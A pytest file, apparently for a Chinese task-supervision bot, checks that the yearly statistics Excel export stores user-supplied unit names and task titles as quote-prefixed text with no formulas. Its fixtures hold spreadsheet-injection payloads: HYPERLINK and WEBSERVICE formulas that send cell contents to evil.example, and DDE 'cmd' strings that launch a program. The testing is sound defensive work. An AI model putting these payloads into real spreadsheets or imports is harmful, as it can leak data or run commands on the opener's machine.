"""Text from people is written to the workbook as text, never as a formula.

Unit names come from a CSV import, task titles from the CLI (or 发布任务 in chat), reasons from
admins: a value starting with ``=``, ``+``, ``-`` or ``@`` must not become a live formula when an
official opens the yearly statistics. Checked in the file's own XML: no ``<f>`` element at all,
and each such value present as a string with Excel's quote prefix.
"""

from __future__ import annotations

import os
import re
import subprocess
import sys
import zipfile
from pathlib import Path
from xml.etree import ElementTree as ET

ROOT = Path(__file__).resolve().parents[2]
NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}

EVIL_UNITS = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+1+cmd|' /C calc'!A0",
              "-2+3+cmd|'/C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "#N/A"]
EVIL_TITLE = '=WEBSERVICE("http://evil.example/"&B5)'


def dudao(cwd: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("DUDAO_")}
    env.update(DUDAO_DATABASE_URL=f"sqlite:///{cwd}/dudao.db", DUDAO_SERVICE_ROSTER="",
               DUDAO_SERVICE_DATA_DIR=str(cwd / "data"), DUDAO_NLU_ENABLED="false",
               PYTHONPATH=str(ROOT))
    done = subprocess.run([sys.executable, "-m", "bot", *args], cwd=cwd, env=env,
                          capture_output=True, text=True, timeout=120, check=False)
    assert done.returncode == 0, (args, done.stdout, done.stderr)
    return done


def _sheet_cells(xlsx: Path) -> tuple[list[str], list[tuple[str, str, str]]]:
    """(every <f> found, and (sheet, text, style id) of every inline or shared string)."""
    formulas: list[str] = []
    texts: list[tuple[str, str, str]] = []
    with zipfile.ZipFile(xlsx) as zf:
        shared: list[str] = []
        if "xl/sharedStrings.xml" in zf.namelist():
            root = ET.fromstring(zf.read("xl/sharedStrings.xml"))
            shared = ["".join(t.text or "" for t in si.iter(f"{{{NS['m']}}}t"))
                      for si in root.findall("m:si", NS)]
        for name in zf.namelist():
            if not re.fullmatch(r"xl/worksheets/sheet\d+\.xml", name):
                continue
            root = ET.fromstring(zf.read(name))
            formulas += [f.text or "" for f in root.iter(f"{{{NS['m']}}}f")]
            for c in root.iter(f"{{{NS['m']}}}c"):
                kind, style = c.get("t"), c.get("s", "0")
                if kind == "inlineStr":
                    texts.append((name, "".join(t.text or "" for t in
                                                c.iter(f"{{{NS['m']}}}t")), style))
                elif kind == "s":
                    v = c.find("m:v", NS)
                    assert v is not None and v.text is not None
                    texts.append((name, shared[int(v.text)], style))
    return formulas, texts


def _quote_prefixed_styles(xlsx: Path) -> set[str]:
    with zipfile.ZipFile(xlsx) as zf:
        root = ET.fromstring(zf.read("xl/styles.xml"))
    xfs = root.find("m:cellXfs", NS)
    assert xfs is not None
    return {str(i) for i, xf in enumerate(xfs.findall("m:xf", NS))
            if xf.get("quotePrefix") in ("1", "true")}


def test_reports_text_starting_like_a_formula_is_written_as_text(tmp_path: Path) -> None:
    roster = tmp_path / "units.csv"
    rows = ["code,name,short_name,kind"] + [
        f'U{i},"{name.replace(chr(34), chr(34) * 2)}",单位{i},city'
        for i, name in enumerate(EVIL_UNITS)]
    roster.write_text("\n".join(rows) + "\n", encoding="utf-8")
    dudao(tmp_path, "unit", "import", str(roster))
    dudao(tmp_path, "task", "add", "--title", EVIL_TITLE, "--due", "2026-03-31T18:00+08:00",
          "--units", "all")
    out = tmp_path / "stats.xlsx"
    dudao(tmp_path, "export", "--year", "2026", "--out", str(out))

    formulas, texts = _sheet_cells(out)
    assert formulas == []
    prefixed = _quote_prefixed_styles(out)
    written = {text: style for _, text, style in texts}
    for value in [*EVIL_UNITS, EVIL_TITLE]:
        assert value in written, value
        if value[0] in "=+-@":
            assert written[value] in prefixed, value
    # Ordinary text keeps its ordinary style.
    assert written["合计"] not in prefixed
